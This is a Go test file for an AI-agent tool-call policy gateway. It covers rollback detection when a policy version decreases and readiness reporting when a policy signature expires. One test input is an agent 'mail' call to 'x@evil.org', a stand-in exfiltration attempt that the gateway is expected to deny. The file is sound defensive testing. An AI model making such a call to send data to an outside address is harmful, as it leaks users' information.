package gateway

import (
	"context"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/proviso-dev/proviso/policy/pack"
)

// A policy of a lower version than the one before is taken, because going back is what people do when something went wrong; it is counted and told as long as it is active.
func TestPolicyGoesBack(t *testing.T) {
	good := loadPack(t, "testdata/calls")
	for _, c := range []struct {
		was, is string
		told    bool
	}{
		{"1.3.0", "1.2.9", true}, {"1.10", "1.9", true}, {"v2", "1.99.99", true}, {"2", "1", true},
		{"1.2.9", "1.3.0", false}, {"1.9", "1.10", false}, {"1.0", "1", false}, {"1", "1.0.0", false}, {"1.0.0-rc1", "1.0.0-rc2", false}, {"spring", "autumn", false}, {"2", "spring", false},
	} {
		now := c.was
		door := newDoor(t, func(cfg *Config) {
			cfg.Load = func(context.Context) (*Rules, error) {
				p := *good
				p.Version = now
				return &Rules{Base: []*pack.Pack{&p}}, nil
			}
		})
		now = c.is
		if err := door.Reload(context.Background()); err != nil {
			t.Fatal(err)
		}
		_, ready := door.admin("GET", "/health/ready", "")
		_, metrics := door.admin("GET", "/metrics", "")
		if strings.Contains(ready, "went back from version "+c.was+" to "+c.is) != c.told || strings.Contains(metrics, "proviso_reloads_backward_total 1") != c.told {
			t.Errorf("from %s to %s: %s", c.was, c.is, ready)
		}
		if err := door.Reload(context.Background()); err != nil {
			t.Fatal(err)
		}
		if _, ready := door.admin("GET", "/health/ready", ""); strings.Contains(ready, "went back") {
			t.Errorf("from %s to %s, told for ever: %s", c.was, c.is, ready)
		}
	}
}

// When somebody's word for the policy ends, the policy goes on, and the server says that it is not ready until there is a new one; a clock that is put back makes it hold again.
func TestSignatureEnds(t *testing.T) {
	end := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	var now atomic.Int64
	now.Store(end.Add(-time.Second).UnixNano())
	rules := &Rules{Base: []*pack.Pack{loadPack(t, "testdata/calls")}, Until: end}
	door := newDoor(t, func(c *Config) {
		c.Clock = func() time.Time { return time.Unix(0, now.Load()) }
		c.Load = func(context.Context) (*Rules, error) { return rules, nil }
	})
	for _, at := range []struct {
		time  time.Time
		ready int
	}{{end.Add(-time.Second), 200}, {end, 503}, {end.Add(time.Hour), 503}, {end.Add(-time.Hour), 200}} {
		now.Store(at.time.UnixNano())
		if status, body := door.admin("GET", "/health/ready", ""); status != at.ready || at.ready == 503 && !strings.Contains(body, "2026-03-01T12:00:00Z") {
			t.Errorf("at %s: %d %s", at.time, status, body)
		}
		if _, out := door.decide(`{"session":"s","tool":"mail","args":{"to":"x@evil.org","subject":"s","body":"b"}}`); out["outcome"] != "deny" {
			t.Errorf("at %s: %v", at.time, out)
		}
	}
	now.Store(end.Add(time.Hour).UnixNano())
	rules = &Rules{Base: rules.Base}
	if err := door.Reload(context.Background()); err != nil {
		t.Fatal(err)
	}
	if status, body := door.admin("GET", "/health/ready", ""); status != 200 {
		t.Errorf("with a new one: %d %s", status, body)
	}
}
